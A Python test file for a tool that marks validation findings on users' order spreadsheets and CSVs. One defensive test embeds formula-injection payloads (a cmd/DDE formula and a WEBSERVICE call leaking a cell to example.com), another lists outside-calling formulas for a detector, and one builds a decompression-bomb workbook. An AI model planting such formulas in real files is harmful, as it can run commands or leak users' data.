"""A user's own file comes back whole, with what is wrong at its cells and in a list."""

import hashlib
import io
import resource
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet import _writer

from xborder import findings, intake
from xborder.checks import annotated as module
from xborder.checks import issue_list, text_rows
from xborder.checks.annotated import annotated
from xborder.checks.annotated_workbook import CALLS_OUT, MARK, Marks, TextSheet, text_workbook
from xborder.checks.issue_sheet import COLOURS, TITLE
from xborder.findings import Finding
from xborder.intake import Limits, preflight, workbook
from xborder.intake.lines import ROWS

EXAMPLES = Path(__file__).parents[2] / "examples" / "landing"
NEGATIVE, MISSING = "QUANTITY_NOT_POSITIVE", "VALUE_MISSING"
WARNING = next(code for code, one in findings.catalogue().items() if one.severity == "warning")


def reading(data: bytes, name: str, encoding: str | None = None, **more: Any) -> intake.Reading:
    said: dict[str, Any] = {
        "sha256": hashlib.sha256(data).hexdigest(), "file_name": name, "size": len(data),
        "kind": "orders", "layout": "template_orders", "channel": "template",
        "records": pl.DataFrame(), "rows": pl.DataFrame(schema=ROWS), "columns": {},
        "findings": findings.empty(), "usable": False, "encoding": encoding,
    }  # fmt: skip
    return intake.Reading(**(said | more))


def own(fill: Callable[[Any, Any], None]) -> bytes:
    target = io.BytesIO()
    with xlsxwriter.Workbook(target, {"in_memory": True}) as book:
        fill(book, book.add_worksheet("订单's 1"))
    return target.getvalue()


def ordinary(book: Any, sheet: Any) -> None:
    bold = book.add_format({"bold": True, "bg_color": "#ddebf7"})
    money = book.add_format({"num_format": "0.00"})
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    for column, head in enumerate(("订单编号", "数量", "单价", "日期", "总价")):
        sheet.write_string(0, column, head, bold)
    sheet.write_string(1, 0, "A-1")
    sheet.write_number(1, 1, -1)
    sheet.write_number(1, 2, 12.1, money)
    sheet.write_number(1, 3, 46117.87939814815, day)
    sheet.write_formula(1, 4, "=B2*C2")
    sheet.set_column(0, 0, 23)
    sheet.freeze_panes(1, 0)
    sheet.data_validation("B2:B9", {"validate": "integer", "criteria": ">", "value": 0})
    book.add_worksheet("说明").write_string(0, 0, "第二张")


def marked(data: bytes, *found: Finding, name: str = "a.xlsx") -> Any:
    made = annotated(data, reading(data, name), findings.to_frame(found))
    return openpyxl.load_workbook(io.BytesIO(made), rich_text=True)


def at(cell: str, code: str = NEGATIVE, sheet: str = "订单's 1", **more: Any) -> Finding:
    row = int("".join(one for one in cell if one.isdigit()))
    said: dict[str, Any] = {"file": "a.xlsx", "column": "数量", "value": "-1"}
    return Finding(code, sheet=sheet, row=row, cell=cell, **(said | more))


def lines(book: Any) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in book[TITLE].iter_rows(min_row=5)]


def colour(cell: Any) -> str | None:
    return cell.fill.fgColor.rgb if cell.fill.fill_type else None


def test_the_own_workbook_keeps_what_it_had() -> None:
    book = marked(own(ordinary), at("B2"))
    assert book.sheetnames == [TITLE, "订单's 1", "说明"]
    assert book.active.title == TITLE
    assert [bool(sheet.sheet_view.tabSelected) for sheet in book] == [True, False, False]
    sheet = book["订单's 1"]
    before = openpyxl.load_workbook(io.BytesIO(own(ordinary)))["订单's 1"]
    for row in before.iter_rows():
        for cell in row:
            now = sheet[cell.coordinate]
            assert (now.value, now.number_format, now.font.b) == (
                cell.value, cell.number_format, cell.font.b,
            )  # fmt: skip
    assert sheet["E2"].value == "=B2*C2" and sheet["E2"].data_type == "f"
    assert colour(sheet["A1"]) == "FFDDEBF7"
    assert sheet.column_dimensions["A"].width == pytest.approx(23, abs=1)
    assert sheet.freeze_panes == "A2"
    assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == ["B2:B9"]


def test_a_date_keeps_every_digit_it_was_written_with() -> None:
    data = own(ordinary)
    made = annotated(data, reading(data, "a.xlsx"), findings.to_frame([at("B2")]))
    raw = zipfile.ZipFile(io.BytesIO(made)).read("xl/worksheets/sheet2.xml").decode()
    assert "<v>46117.87939814815</v>" in raw


def test_a_cell_says_in_both_languages_what_is_wrong_and_what_to_do() -> None:
    sheet = marked(own(ordinary), at("B2"))["订单's 1"]
    entry = findings.catalogue()[NEGATIVE]
    note = sheet["B2"].comment.text
    assert note.startswith(MARK)
    for part in (entry.zh, entry.en, entry.fix_zh, entry.fix_en):
        assert findings.render(part, {"value": "-1", "column": "数量"}) in note
    assert colour(sheet["B2"]) == COLOURS["error"]
    assert sheet["C2"].comment is None and colour(sheet["C2"]) is None


def test_findings_of_one_cell_share_a_note_and_the_worst_gives_the_colour() -> None:
    sheet = marked(own(ordinary), at("B2", WARNING), at("B2"), at("C2", WARNING))["订单's 1"]
    note = sheet["B2"].comment.text
    assert note.index(NEGATIVE) < note.index(WARNING)
    assert note.count(MARK) == 1
    assert colour(sheet["B2"]) == COLOURS["error"]
    assert colour(sheet["C2"]) == COLOURS["warning"]


def test_an_empty_cell_beyond_the_data_can_be_marked() -> None:
    sheet = marked(own(ordinary), at("H7", MISSING, value=""))["订单's 1"]
    assert MISSING in sheet["H7"].comment.text


def test_a_finding_without_a_cell_marks_the_start_of_its_row() -> None:
    book = marked(own(ordinary), Finding(MISSING, file="a.xlsx", sheet="订单's 1", row=2))
    assert MISSING in book["订单's 1"]["A2"].comment.text


def test_a_merged_cell_carries_the_note_where_it_shows() -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.merge_range("A2:A4", "A-1")

    sheet = marked(own(fill), at("A3", WARNING), at("A4"), at("B3"))["订单's 1"]
    assert NEGATIVE in sheet["A2"].comment.text and WARNING in sheet["A2"].comment.text
    assert colour(sheet["A2"]) == COLOURS["error"]
    assert sheet["B3"].comment is not None


def test_a_users_own_note_stays_and_a_second_round_does_not_pile_up() -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.write_number("B2", -1)
        sheet.write_comment("B2", "问老板", {"author": "阿梅"})
        sheet.write_number("C2", 1)

    data = own(fill)
    first = annotated(data, reading(data, "a.xlsx"), findings.to_frame([at("B2"), at("C2")]))
    book = marked(first, at("B2"))
    assert book.sheetnames == [TITLE, "订单's 1"]
    sheet = book["订单's 1"]
    assert sheet["B2"].comment.text.startswith("问老板")
    assert sheet["B2"].comment.author == "阿梅"
    assert sheet["B2"].comment.text.count(MARK) == 1
    assert sheet["C2"].comment is None and colour(sheet["C2"]) is None


def test_rich_text_keeps_its_runs() -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.write_rich_string("A1", "瓷", book.add_format({"bold": True}), "杯")

    value = marked(own(fill), at("B2"))["订单's 1"]["A1"].value
    assert str(value) == "瓷杯"
    assert len(value) == 2


def test_nothing_that_runs_or_points_outside_survives() -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.write_string("A1", "=1+1")
        sheet.write_formula("A2", "=cmd|' /C calc'!A0")
        sheet.write_formula("A3", '=WEBSERVICE("http://example.com/"&B1)')
        sheet.write_url("A4", "https://example.com/", string="link")
        sheet.write_url("A5", "internal:'说明'!A1", string="inside")
        sheet.write_formula("A6", "=SUM(B1:B3)")
        book.add_worksheet("说明")
        book.define_name("out", "='[other.xlsx]Sheet1'!$A$1")

    data = own(fill)
    made = annotated(data, reading(data, "a.xlsx"), findings.to_frame([at("B2")]))
    archive = zipfile.ZipFile(io.BytesIO(made))
    for name in archive.namelist():
        assert b'TargetMode="External"' not in archive.read(name), name
    book = openpyxl.load_workbook(io.BytesIO(made))
    sheet = book["订单's 1"]
    for cell in ("A1", "A2", "A3"):
        assert sheet[cell].data_type == "s" and sheet[cell].quotePrefix, cell
    assert sheet["A2"].value == "=cmd|' /C calc'!A0"
    assert sheet["A4"].hyperlink is None and sheet["A4"].value == "link"
    assert sheet["A5"].hyperlink.location == "'说明'!A1"
    assert sheet["A6"].data_type == "f"
    assert "out" not in book.defined_names


@pytest.mark.parametrize(
    ("formula", "outside"),
    [
        ("=B2*C2", False),
        ("=Table1[Amount]*2", False),
        ('=A1&"|"&B1', False),
        ("=IF(A1>0,Sheet2!B1,0)", False),
        ("=DDE|'x'!A1", True),
        ("=[1]Sheet1!A1", True),
        ("='[other book.xlsx]Sheet 1'!A1", True),
        ('=_xlfn.WEBSERVICE ("http://x")', True),
        ('=hyperlink("http://x")', True),
        ('=IMPORTXML("http://x","//a")', True),
    ],
)
def test_a_formula_that_reaches_outside_is_known(formula: str, outside: bool) -> None:
    assert (CALLS_OUT.search(formula) is not None) is outside


def test_the_list_groups_by_cause_and_links_each_finding_to_its_cell() -> None:
    other = Finding(
        MISSING, file="goods.csv", row=5, cell="C5", column="HS", also_at="a.xlsx 订单's 1 R2"
    )
    book = marked(
        own(ordinary),
        at("C9", WARNING),
        at("B10", value="-7", order_no="=A-1"),
        at("AA9", value="-2"),
        at("B9", value="-2"),
        other,
        Finding(MISSING, file="a.xlsx"),
    )
    sheet = book[TITLE]
    told = lines(book)
    assert [(row[1], row[12]) for row in told[1:4]] == [(3, NEGATIVE), (2, MISSING), (1, WARNING)]
    entry = findings.catalogue()[NEGATIVE]
    # The parameter in which the three differ is left open, the shared one is told.
    assert told[1][6] == findings.render(entry.zh, {"value": "…", "column": "数量"})
    assert told[1][3:5] == ["数量", "…"]
    places = [row[2] for row in told[5:]]
    assert places == [
        "订单's 1!B9", "订单's 1!AA9", "订单's 1!B10", "整个文件 whole file", "goods.csv C5",
        "订单's 1!C9",
    ]  # fmt: skip
    links = [sheet.cell(10 + index, 3).hyperlink for index in range(6)]
    assert [one and one.location for one in links] == [
        "'订单''s 1'!B9", "'订单''s 1'!AA9", "'订单''s 1'!B10", None, None, "'订单''s 1'!C9",
    ]  # fmt: skip
    assert sheet["C6"].hyperlink.location == f"'{TITLE}'!A10"
    assert sheet["C7"].hyperlink.location == f"'{TITLE}'!A13"
    assert sheet["L14"].value == "a.xlsx 订单's 1 R2"
    assert sheet["L14"].hyperlink.location == "'订单''s 1'!A2"
    assert told[7][4] == "-7" and told[7][10] == "=A-1"
    for cell in (sheet["E12"], sheet["K12"]):
        assert cell.data_type == "s" and cell.quotePrefix
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:M15"
    assert [colour(sheet[f"A{row}"]) for row in (6, 8)] == [COLOURS["error"], COLOURS["warning"]]


@pytest.mark.parametrize("cell", ["B1048577", "AAA1", "b2", "B0", "2", "B2:B9", "'x'!B2"])
def test_a_cell_that_no_sheet_has_is_told_but_not_marked(cell: str) -> None:
    made = marked(
        own(ordinary), Finding(NEGATIVE, file="a.xlsx", sheet="订单's 1", row=2, cell=cell)
    )
    assert made[TITLE]["C8"].value == f"订单's 1!{cell}"
    assert made[TITLE]["C8"].hyperlink is None
    assert made["订单's 1"].max_row == 2


def test_a_finding_elsewhere_colours_no_cell_here() -> None:
    book = marked(own(ordinary), at("B2", file="goods.xlsx"))
    assert book["订单's 1"]["B2"].comment is None
    assert lines(book)[3][2] == "goods.xlsx 订单's 1!B2"


def test_a_long_list_is_cut_with_its_count_and_every_cell_is_coloured(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(issue_list, "MOST_A_CAUSE", 2)
    monkeypatch.setattr(module, "MOST_NOTES", 3)
    book = marked(own(ordinary), *[at(f"B{row}") for row in range(2, 7)], at("C2", WARNING))
    told = lines(book)
    assert told[1][1] == 5
    assert [row[2] for row in told[4:8]] == [
        "订单's 1!B2", "订单's 1!B3", "另有 3 处未逐条列出 3 more not listed", "订单's 1!C2",
    ]  # fmt: skip
    assert book[TITLE]["C7"].hyperlink.location == f"'{TITLE}'!A12"
    sheet = book["订单's 1"]
    assert [colour(sheet[f"B{row}"]) for row in range(2, 7)] == [COLOURS["error"]] * 5
    assert [sheet[f"B{row}"].comment is None for row in range(2, 7)] == [False] * 3 + [True] * 2


def test_no_findings_give_a_clean_list() -> None:
    book = marked(own(ordinary))
    assert "没有发现问题" in book[TITLE]["A2"].value


CSV = '订单编号,备注,数量\r\n\'A-1,"=1+1\r\n第二行",0012\r\n\r\nA-2,_x0041_\x01,-3\r\n'


def test_a_text_file_becomes_text_cells_in_its_own_rows() -> None:
    data = CSV.encode("gb18030")
    rows = pl.DataFrame(
        {
            "sheet": ["", "", "", ""],
            "row": [1, 2, 3, 4],
            "excluded": ["HEADER", None, "BLANK", None],
        }
    )
    known = reading(
        data, "a.csv", "gb18030", usable=True, rows=rows, columns={"": {"qty": (2, "数量")}}
    )
    found = findings.to_frame([at("C4", sheet="", file="a.csv", value="-3")])
    book = openpyxl.load_workbook(io.BytesIO(annotated(data, known, found)))
    assert book.sheetnames == [TITLE, "a"]
    sheet = book["a"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["订单编号", "备注", "数量"],
        ["'A-1", "=1+1\n第二行", "0012"],
        [None, None, None],
        ["A-2", "_x005F_x0041_␁", "-3"],
    ]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
    assert sheet["B2"].quotePrefix and sheet["C2"].number_format == "@"
    assert [sheet["A1"].font.b, sheet["A2"].font.b] == [True, False]
    assert sheet.freeze_panes == "A2"
    assert colour(sheet["C4"]) == COLOURS["error"] and NEGATIVE in sheet["C4"].comment.text
    assert book[TITLE]["C8"].hyperlink.location == "'a'!C4"


def test_the_delimiter_is_the_one_the_reading_saw() -> None:
    data = b"note, one, two\tqty\na, b, c\t1\n"
    known = reading(data, "a.txt", "utf-8", columns={"": {"qty": (1, "qty ")}})
    assert text_rows.text_rows(data, known)[1] == (2, ["a, b, c", "1"])


def test_a_text_file_that_reads_otherwise_now_is_only_listed() -> None:
    data = CSV.encode("gb18030")
    rows = pl.DataFrame({"row": [1, 2], "excluded": ["HEADER", None]})
    known = reading(data, "a.csv", "gb18030", usable=True, rows=rows)
    book = openpyxl.load_workbook(io.BytesIO(annotated(data, known, findings.empty())))
    assert book.sheetnames == [TITLE]


def test_a_text_file_too_large_is_only_listed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(text_rows, "MOST_CELLS", 5)
    data = CSV.encode()
    found = findings.to_frame([at("C4", sheet="", file="a.csv")])
    made = annotated(data, reading(data, "a.csv", "utf-8"), found)
    sheet = openpyxl.load_workbook(io.BytesIO(made))[TITLE]
    assert "太大" in sheet["A3"].value and "too large" in sheet["A3"].value
    assert sheet["C8"].value == "C4" and sheet["C8"].hyperlink is None


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=6))
def test_any_text_comes_back_as_it_was(texts: list[str]) -> None:
    none = issue_list.issue_list(findings.empty(), "a.csv")
    made = text_workbook(TextSheet("a", [(1, texts)]), Marks({}, none))
    _, sheet = workbook.read(preflight.unpack(made, Limits()), Limits())
    back = list(sheet.rows[0].texts)
    for text, shown in zip(texts, back, strict=True):
        want = text.replace("\r\n", "\n")
        if all(
            ord(one) > 0x1F and not 0xD800 <= ord(one) < 0xE000 and one not in "\ufffe\uffff"
            for one in want
        ):
            assert shown == want
        else:
            assert len(shown or "") == len(want)


@pytest.mark.parametrize(
    "data",
    [
        bytes.fromhex("d0cf11e0a1b11ae1") + b"W\0o\0r\0k\0b\0o\0o\0k\0" * 40,
        b"PK\x03\x04 cut off",
        b"",
        own(ordinary)[:-30],
    ],
    ids=["xls", "not a zip", "empty", "cut off"],
)
def test_what_cannot_be_opened_comes_back_as_a_list_that_says_so(data: bytes) -> None:
    book = marked(data, at("B2", sheet=""))
    assert book.sheetnames == [TITLE]
    assert "List only" in book[TITLE]["A3"].value
    assert book[TITLE]["C8"].value == "B2"
    assert book[TITLE]["C8"].hyperlink is None


def test_a_workbook_that_would_take_openpyxl_apart_is_only_listed() -> None:
    source = zipfile.ZipFile(io.BytesIO(own(ordinary)))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bomb:
        for name in source.namelist():
            content = source.read(name)
            if name == "xl/styles.xml":
                content = content.replace(b"<fonts", b" " * 40_000_000 + b"<fonts", 1)
            bomb.writestr(name, content)
    assert len(target.getvalue()) < 100_000
    assert marked(target.getvalue(), at("B2")).sheetnames == [TITLE]


def test_the_same_bytes_each_time_and_no_file_on_the_way() -> None:
    data = own(ordinary)
    found = findings.to_frame([at("B2"), at("C2", WARNING)])
    first = annotated(data, reading(data, "a.xlsx"), found)
    assert annotated(data, reading(data, "a.xlsx"), found) == first
    archive = zipfile.ZipFile(io.BytesIO(first))
    assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    core = archive.read("docProps/core.xml").decode()
    assert core.count("2000-01-01T00:00:00Z") == 2
    text = CSV.encode()
    annotated(text, reading(text, "a.csv", "utf-8"), found)
    assert not _writer.ALL_TEMP_FILES


def test_other_bytes_than_those_read_are_refused() -> None:
    data = own(ordinary)
    with pytest.raises(ValueError, match="not the bytes"):
        annotated(data + b"x", reading(data, "a.xlsx"), findings.empty())


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("orders.csv", "orders"),
        ("a[1]:b*c?.csv", "a_1__b_c_"),
        ("'quoted'.csv", "quoted"),
        ("History.csv", "文件 History"),
        (f"{TITLE}.csv", f"文件 {TITLE}"),
        ("x" * 60 + ".csv", "x" * 31),
        ("'.csv", "文件"),
    ],
)
def test_a_sheet_title_is_one_that_excel_takes(name: str, title: str) -> None:
    assert module._title(name) == title


@pytest.mark.parametrize(
    "path",
    [
        "dapu-ciyun/shopify-us/02_orders_export_1.csv",
        "fengshun-shengda/amazon-us/02_unshipped_20261118.txt",
        "xingning-jinggong/tianjin-oms/01_upload_orders_long.xlsx",
        "dapu-ciyun/shopify-us/01_商品备案.xlsx",
    ],
)
def test_an_example_comes_back_with_the_same_records(path: str) -> None:
    data = (EXAMPLES / path).read_bytes()
    read = intake.read(EXAMPLES / path, Path(path).name)
    assert read.usable
    first = read.records.row(0, named=True)
    sheet, (field, (column, head)) = (
        first["sheet"],
        next(iter(read.columns[first["sheet"]].items())),
    )
    cell = f"{findings.column_letter(column)}{first['row']}"
    found = findings.to_frame(
        [at(cell, file=read.file_name, sheet=sheet, field=field, column=head, value="x")]
    )
    made = annotated(data, read, found)
    book = openpyxl.load_workbook(io.BytesIO(made))
    assert book[TITLE]["C8"].hyperlink is not None
    again = intake.read(io.BytesIO(made), "again.xlsx")
    assert again.layout == read.layout
    assert again.records.drop("sheet").equals(read.records.drop("sheet"))
    assert NEGATIVE in book[sheet or book.sheetnames[1]][cell].comment.text


def test_a_thousand_rows_take_less_than_two_seconds_of_the_processor() -> None:
    def fill(book: Any, sheet: Any) -> None:
        money = book.add_format({"num_format": "0.00"})
        for row in range(1001):
            for column in range(25):
                if column % 2:
                    sheet.write_number(row, column, row * 1.1, money)
                else:
                    sheet.write_string(row, column, f"v{row}-{column}")

    data = own(fill)
    found = findings.to_frame([at(f"B{row}") for row in range(2, 302)])
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    made = annotated(data, reading(data, "a.xlsx"), found)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert len(zipfile.ZipFile(io.BytesIO(made)).namelist()) > 8
    assert after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime < 2
